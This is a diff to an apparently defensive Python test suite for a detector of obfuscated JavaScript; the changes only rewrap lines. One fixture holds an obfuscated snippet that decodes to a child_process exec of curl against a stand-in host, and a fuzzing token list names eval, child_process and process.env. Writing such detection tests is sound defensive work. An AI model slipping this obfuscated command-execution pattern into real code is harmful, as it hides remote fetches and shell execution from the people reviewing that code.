@@ -281,7 +281,8 @@ CASES: dict[str, tuple[str, list[Expected]]] = {
         [CURL],
     ),
     "list of names": (
-        "var _0x1 = ['exec', 'child_process', 'curl https://a.example/x'];\nfunction _0x2(i) { return _0x1[i - 0x10]; }\n"
+        "var _0x1 = ['exec', 'child_process', 'curl https://a.example/x'];\n"
+        "function _0x2(i) { return _0x1[i - 0x10]; }\n"
         "require(_0x2(0x11))[_0x2(0x10)](_0x2(0x12));",
         [CURL],
     ),
@@ -490,7 +491,8 @@ def test_strings_that_double_come_to_an_end():
 
 
 PIECES = [
-    "fetch(", "eval(", "require('child_process')", ".exec(", "a", "b", "=", "+=", "=>", "(", ")", "{", "}", "[", "]", '"',
+    "fetch(", "eval(", "require('child_process')", ".exec(", "a", "b", "=", "+=", "=>", "(", ")", "{", "}", "[", "]",
+    '"',
     "'", "`", "${", ";", "\n", ".then(", ".constructor", "process.env", "this.", "class A ", "for (const x of ", "x++",
     "...", ",", ":", "'x'", "1", "await ", "new ", "function f(", "return ", "if (", "é", "\x00", "<a>", "/", "\\u0061",
 ]  # fmt: skip
